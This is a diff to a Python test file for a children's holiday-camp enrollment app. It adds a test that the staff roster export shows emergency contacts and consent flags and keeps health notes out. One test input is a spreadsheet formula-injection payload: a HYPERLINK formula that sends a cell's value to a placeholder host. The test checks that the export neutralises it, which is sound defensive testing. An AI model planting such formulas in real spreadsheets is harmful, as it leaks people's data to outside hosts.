@@ -41,7 +41,7 @@ def rows(response):
     return [unescape(row.get_text(" ", strip=True)) for row in soup.select("table.listing tbody tr")]
 
 
-def family(number, *, health_notes="", second_parent=False):
+def family(number, *, health_notes="", second_parent=False, **child_fields):
     guardian = UserFactory(
         email=f"parent{number}@exemple.fr",
         first_name=f"Parent{number}",
@@ -55,6 +55,7 @@ def family(number, *, health_notes="", second_parent=False):
         last_name=f"Famille{number}",
         birth_date=START.replace(year=START.year - 8),
         health_notes=health_notes,
+        **child_fields,
     )
     Guardianship.objects.create(child=child, parent=guardian, relationship="mere")
     if second_parent:
@@ -208,6 +209,37 @@ def test_the_roster_lists_the_enrolled_children_with_their_guardians(staff_clien
     assert record["État"] == "Validée" and record["Informations de santé"] == "oui"
     assert "arachides" not in str(row)  # a flag, not the content
     assert record["Acompte"] == ("200,00" if file_format == "csv" else 200)
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_the_roster_gives_the_team_on_site_the_emergency_contact_leaving_alone_and_image_rights(
+    staff_client, stay, secretary, file_format
+):
+    formula = '=HYPERLINK("http://exemple.test/?x="&A2,"Voir")'
+    allowed = request(
+        stay,
+        1,
+        health_notes="Asthme : ventoline dans le sac",
+        emergency_contact_name=formula,
+        emergency_contact_phone="0698765432",
+        may_leave_alone=True,
+        image_rights_consent=True,
+    )
+    kept = request(stay, 2, emergency_contact_name="Mamie D'Almeida", emergency_contact_phone="+33 1 42 00 00 00")
+    for enrollment in (allowed, kept):
+        service.validate(enrollment, by=secretary)
+    response = staff_client.get(f"{ENROLLMENTS}roster/{stay.pk}/{file_format}/")
+    header, *data = roster_rows(response, file_format)
+    records = {row[1]: dict(zip(header, row, strict=True)) for row in data}
+    first, second = records["Enfant1"], records["Enfant2"]
+    assert first["Personne à prévenir"] == "'" + formula  # neutralised: never a formula
+    assert first["Téléphone d'urgence"] == "06 98 76 54 32"
+    assert (first["Repart seul(e)"], first["Droit à l'image"]) == ("oui", "oui")
+    assert second["Personne à prévenir"] == "Mamie D'Almeida"
+    assert second["Téléphone d'urgence"] == "01 42 00 00 00"
+    assert (second["Repart seul(e)"], second["Droit à l'image"]) == ("non", "non")
+    assert (first["Informations de santé"], second["Informations de santé"]) == ("oui", "non")
+    assert "ventoline" not in str(data)  # the health notes stay on the secretariat's screen
 
 
 def test_a_communication_editor_sees_no_enrollment_nor_roster(client, editor, stay):
